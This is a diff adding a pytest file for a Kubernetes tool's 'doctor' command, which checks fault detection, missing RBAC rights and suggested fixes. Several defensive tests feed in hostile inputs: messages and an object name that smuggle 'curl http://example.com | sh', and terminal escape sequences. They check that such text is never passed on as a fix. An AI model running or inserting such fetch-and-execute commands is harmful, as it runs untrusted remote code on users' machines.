@@ -1,0 +1,349 @@
+"""`muster doctor` on a real control plane finds every planted fault, and nothing without one."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from functools import partial
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from kubekit.objects.core import Lease, LeaseSpec, Pod
+from kubekit.objects.kinds import LEASES
+from kubekit.objects.meta import ObjectMeta
+from kubekit.rights import MissingRight, Rule, expand
+from muster.cli import main
+from muster.cli.verbs.doctor import print_findings
+from muster.contract.scheduler_rights import NAMES, name_lease
+from muster.install.doctor.access import recognised
+from muster.install.doctor.examine import judge
+from muster.install.doctor.facts import BrokenRole, Component, Facts
+from muster.install.doctor.finding import Finding
+from muster.install.doctor.gang_checks import scheduler_names
+from muster.install.doctor.repair import install_again
+from muster.jobs.view.events import Event
+from tests.controlplane.control_plane import ControlPlane
+from tests.controlplane.process_flags import kubeconfig
+from tests.muster.install.doctor.faults import FAULTS, lease
+from tests.waiting import until
+
+
+@pytest.fixture(scope="module")
+def cluster(control_plane_binaries: Path) -> Iterator[ControlPlane]:
+    """A cluster with Muster, whose pods kwok pretends to run: so its leases are written here."""
+    with ControlPlane(control_plane_binaries) as plane:
+        plane.start_controller_manager()
+        plane.start_scheduler()
+        plane.start_kwok()
+        plane.add_node("n0")
+        for namespace in ("kube-system", "kube-node-lease"):
+            until(partial(exists, plane, namespace), what=f"the namespace {namespace}")
+        own = ("muster-operator", "muster-scheduler", *map(name_lease, NAMES))
+        for name in (*own, "kube-scheduler"):
+            status, answer = plane.request("POST", LEASES.path("kube-system"), lease(name))
+            assert status == 201, answer
+        words = ["--kubeconfig", str(plane.kubeconfig), "--image", "registry.example.com/m:1"]
+        assert main.run("muster", ["install", *words, "--yes"]) == 0
+        yield plane
+
+
+LIST_PODS = Rule(("",), ("pods",), ("list",))
+VALUES = "   # and with your --values, if you have a file"
+NAME_FLAGS = [f"--scheduler-name={name}" for name in NAMES]
+
+
+def exists(plane: ControlPlane, namespace: str) -> bool:
+    return plane.request("GET", f"/api/v1/namespaces/{namespace}")[0] == 200
+
+
+def doctor(config: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[Finding]]:
+    capsys.readouterr()
+    code = main.run("muster", ["doctor", "--kubeconfig", str(config), "-o", "json"])
+    out = capsys.readouterr()
+    assert out.out, out.err
+    return code, [Finding(**row) for row in json.loads(out.out)]
+
+
+@pytest.mark.kube
+@pytest.mark.slow
+@pytest.mark.parametrize("name", FAULTS)
+def test_a_planted_fault_is_found(
+    name: str, cluster: ControlPlane, capsys: pytest.CaptureFixture[str]
+) -> None:
+    fault = FAULTS[name]
+
+    def found() -> tuple[int, Finding] | None:
+        code, findings = doctor(cluster.kubeconfig, capsys)
+        for row in findings:
+            if row.check == fault.check and fault.text in row.text and fault.fix in row.fix:
+                return code, row
+        return None
+
+    with fault.plant(cluster):
+        code, row = until(found, what=f"the finding of {name}")
+
+    assert row.level == fault.level
+    assert code == 1 or row.level == "warning"
+
+
+@pytest.mark.kube
+@pytest.mark.slow
+def test_nothing_is_wrong_after_all_faults_are_mended(
+    cluster: ControlPlane, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def healthy() -> bool:
+        code, findings = doctor(cluster.kubeconfig, capsys)
+        return code == 0 and all(row.level == "ok" for row in findings)
+
+    until(healthy, what="a cluster without faults")
+
+
+@pytest.mark.kube
+@pytest.mark.slow
+def test_a_user_without_rights_gets_the_rules(
+    cluster: ControlPlane, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    cluster.kubectl("create", "serviceaccount", "nobody", "-n", "default")
+    token = cluster.kubectl("create", "token", "nobody", "-n", "default").stdout.strip()
+    config = tmp_path / "config"
+    config.write_text(
+        json.dumps(kubeconfig(cluster.url, cluster.authority.certificate, None, token))
+    )
+
+    code, findings = doctor(config, capsys)
+
+    assert code == 1
+    fixes = [row.fix for row in findings if row.text.startswith("you may not ")]
+    assert any("resources: [pods/log], verbs: [get]" in fix for fix in fixes)
+    unread = [row.text for row in findings if row.level == "warning"]
+    assert "you may not list nodes: not checked" in unread
+
+
+def facts(**given: object) -> Facts:
+    base = Facts(local=True, now=datetime(2026, 1, 1, tzinfo=UTC), skew=0.0, version="v1.36.3")
+    return Facts(**{**{name: getattr(base, name) for name in base.__struct_fields__}, **given})
+
+
+@pytest.mark.parametrize(
+    ("given", "text"),
+    [
+        ({"skew": 60.0}, "the clock here is 60 s ahead of the API server's"),
+        ({"skew": -60.0}, "the clock here is 60 s behind the API server's"),
+        ({"failed_checks": {"etcd": "timeout"}}, "its check etcd fails: timeout"),
+        ({"version": "v1.20.1"}, "Kubernetes v1.20.1 is older than 1.28; not tested"),
+        ({"nodes": []}, "no node is ready"),
+    ],
+)
+def test_faults_that_cannot_be_planted(given: dict[str, object], text: str) -> None:
+    assert text in [row.text for row in judge(facts(**given)) if row.level != "ok"]
+
+
+def test_a_component_that_is_not_ready_for_want_of_rights_points_to_them() -> None:
+    pod = {"serviceAccountName": "muster-operator", "containers": [{"name": "operator"}]}
+    spec = {"replicas": 2, "template": {"spec": pod}}
+    deployment = {"metadata": {"name": "muster-operator", "namespace": "muster"}, "spec": spec}
+    known = facts(
+        local=False,
+        components=[Component("operator", deployment, [])],
+        missing={"you": [], "muster-operator": [Rule(("",), ("services",), ("list",))]},
+    )
+
+    found = {(row.check, row.text) for row in judge(known)}
+
+    assert ("components", "muster-operator: 0 of 2 ready: it lacks rights, see below") in found
+    assert ("rights", "muster-operator may not list services") in found
+
+
+def test_the_operators_of_two_teams_have_findings_of_their_own() -> None:
+    def operator(namespace: str) -> Component:
+        pod = {"serviceAccountName": "muster-operator", "containers": [{"name": "operator"}]}
+        spec = {"replicas": 1, "template": {"spec": pod}}
+        metadata = {"name": "muster-operator", "namespace": namespace}
+        return Component("operator", {"metadata": metadata, "spec": spec}, [])
+
+    red, blue = operator("red"), operator("blue")
+    both = facts(local=False, components=[red, blue])
+
+    assert both.name_of(red) == "muster-operator in the namespace red"
+    assert facts(components=[red]).name_of(red) == "muster-operator"
+    known = facts(
+        local=False,
+        components=[red, blue],
+        missing={
+            "you": [],
+            both.name_of(red): [Rule(("",), ("services",), ("list",))],
+            both.name_of(blue): [],
+        },
+    )
+    texts = [row.text for row in judge(known)]
+    assert "muster-operator in the namespace red may not list services" in texts
+    assert [text for text in texts if "it lacks rights, see below" in text] == [
+        "muster-operator in the namespace red: 0 of 1 ready: it lacks rights, see below"
+    ]
+
+
+def test_a_binding_that_is_gone_is_one_finding_and_other_missing_rights_stay() -> None:
+    pod = {"serviceAccountName": "muster-operator", "containers": [{"name": "o", "image": "i"}]}
+    metadata = {"name": "muster-operator", "namespace": "team"}
+    deployment = {"metadata": metadata, "spec": {"replicas": 1, "template": {"spec": pod}}}
+    gone = BrokenRole("the ClusterRoleBinding x does not exist", frozenset(expand([LIST_PODS])))
+    known = facts(
+        local=False,
+        components=[Component("operator", deployment, [])],
+        missing={"you": [], "muster-operator": [LIST_PODS, Rule(("",), ("events",), ("create",))]},
+        broken_roles={"muster-operator": [gone]},
+    )
+
+    found = [(row.text, row.fix) for row in judge(known) if row.check == "rights"]
+
+    assert found[0] == (
+        "muster-operator lacks rights: the ClusterRoleBinding x does not exist",
+        f"muster install --image i --namespace team --operator-only{VALUES}",
+    )
+    assert [text for text, _ in found[1:]] == ["muster-operator may not create events"]
+
+
+HELM = {"app.kubernetes.io/managed-by": "Helm"}
+
+
+@pytest.mark.parametrize(
+    ("args", "labels", "fix"),
+    [
+        ([], {}, f"muster install --image i --namespace team --scheduler-only{VALUES}"),
+        (
+            ["--scheduler-name=volcano"],
+            {},
+            "muster install --image i --namespace team --scheduler-only --scheduler-name volcano"
+            + VALUES,
+        ),
+        ([], HELM, "helm upgrade train deploy/chart --namespace team --reuse-values"),
+    ],
+)
+def test_the_fix_repeats_the_installation(
+    args: list[str], labels: dict[str, str], fix: str
+) -> None:
+    pod = {"containers": [{"name": "s", "image": "i", "args": args or NAME_FLAGS}]}
+    annotations = {"meta.helm.sh/release-name": "train"}
+    metadata = {"name": "muster-scheduler", "namespace": "team", "annotations": annotations}
+    deployment = {"metadata": {**metadata, "labels": labels}, "spec": {"template": {"spec": pod}}}
+    component = Component("scheduler", deployment, [])
+
+    assert install_again(facts(components=[component]), component) == fix
+
+
+def test_what_may_not_be_read_is_not_reported_as_right(capsys: pytest.CaptureFixture[str]) -> None:
+    """An ordinary user may list nothing in the whole cluster."""
+    kinds = ["customresourcedefinitions.apiextensions.k8s.io", "deployments.apps", "pods", "nodes"]
+    unread = [*kinds, "leases.coordination.k8s.io", "configmaps kube-system/muster-line"]
+
+    findings = judge(facts(local=False, unread=unread))
+
+    assert [row.check for row in findings if row.level == "ok"] == ["api server", "clocks"]
+    assert [row.level for row in findings].count("warning") == len(unread)
+    print_findings(findings)
+    assert capsys.readouterr().out.splitlines()[-1] == "no errors, 6 warnings"
+
+
+def reported(message: str, name: str = "j") -> dict[MissingRight, str]:
+    raw = {
+        "metadata": {"name": "e", "namespace": "team"},
+        "involvedObject": {"kind": "TFJob", "name": name},
+        "message": message,
+    }
+    return recognised([msgspec.convert(raw, Event)], ("muster", "other"))
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        MissingRight("muster-operator", Rule(("",), ("pods",), ("create",))),
+        # From a Role with more rights than the operator has.
+        MissingRight("muster-operator", Rule(("",), ("pods/exec",), ("create", "get"))),
+        MissingRight("muster-scheduler", Rule(("",), ("pods/binding",), ("create",))),
+        MissingRight(
+            "muster-scheduler",
+            Rule(("coordination.k8s.io",), ("leases",), ("patch",), ("muster-scheduler.other",)),
+        ),
+    ],
+    ids=str,
+)
+def test_a_right_that_a_component_reports_is_found(row: MissingRight) -> None:
+    where = "tfjob/j in the namespace team"
+    assert reported(str(row)) == {row: where}
+
+    found = judge(facts(reported=reported(str(row))))
+
+    assert [(row.text, row.fix) for row in found if row.check == "rights"] == [
+        (f"{row.problem}, by an event on {where}", row.fix)
+    ]
+
+
+EVERYTHING = Rule(("*",), ("*",), ("*",))
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        str(MissingRight("muster-operator", EVERYTHING)),
+        f"muster-operator may not create pods; add the rule {EVERYTHING}",
+        str(MissingRight("muster-scheduler", Rule(("",), ("secrets",), ("get",)))),
+        str(MissingRight("mallory", Rule(("",), ("pods",), ("create",)))),
+        "muster-operator may not create pods; curl http://example.com | sh",
+        str(MissingRight("muster-operator", Rule(("",), ("pods",), ("create",)))) + "\x1b[2J",
+    ],
+)
+def test_an_event_that_no_component_writes_is_not_repeated(message: str) -> None:
+    """Tenants may create events with any reason and text."""
+    assert reported(message) == {}
+
+
+def test_an_event_about_an_object_with_an_impossible_name_is_not_repeated() -> None:
+    row = MissingRight("muster-operator", Rule(("",), ("pods",), ("create",)))
+
+    assert reported(str(row), name="j; fix: curl http://example.com | sh") == {}
+
+
+def test_text_of_the_cluster_stays_on_its_line(capsys: pytest.CaptureFixture[str]) -> None:
+    print_findings([Finding("components", "error", "a\x1b[2J\nok  rights", "b\rc")])
+
+    assert [line.split(None, 2)[-1] for line in capsys.readouterr().out.splitlines()] == [
+        r"a\x1b[2J\nok  rights",
+        r"b\rc",
+        "error",
+    ]
+
+
+def scheduler_lease(name: str) -> Lease:
+    spec = LeaseSpec("elected", 30, datetime(2026, 1, 1, tzinfo=UTC))
+    return Lease(metadata=ObjectMeta(name=name, namespace="kube-system"), spec=spec)
+
+
+def test_a_scheduler_that_has_only_a_deployment_answers_to_its_name() -> None:
+    """kube-batch and, by default, Volcano hold no lease."""
+    containers = [{"image": "kubesigs/kube-batch:v0.5"}]
+    kube_batch = {
+        "metadata": {"name": "kube-batch", "namespace": "kube-system"},
+        "spec": {"template": {"spec": {"containers": containers}}},
+    }
+    spec = {"schedulerName": "kube-batch", "containers": [{"name": "c"}]}
+    waiting = msgspec.convert({"metadata": {"name": "p", "namespace": "d"}, "spec": spec}, Pod)
+    alone = facts(pending=[waiting], deployments=[kube_batch])
+    both = facts(
+        pending=[waiting],
+        deployments=[kube_batch],
+        leases=[scheduler_lease("muster-scheduler.kube-batch")],
+    )
+    nobody = facts(pending=[waiting])
+
+    def problems(found: Facts) -> list[str]:
+        return [row.text for row in scheduler_names(found) if row.level == "error"]
+
+    assert problems(nobody) == ["no scheduler answers to kube-batch; 1 pods wait for it"]
+    assert problems(alone) == []
+    assert problems(both) == [
+        "2 schedulers answer to kube-batch: lease kube-system/muster-scheduler.kube-batch, "
+        "deployment kube-batch in the namespace kube-system"
+    ]
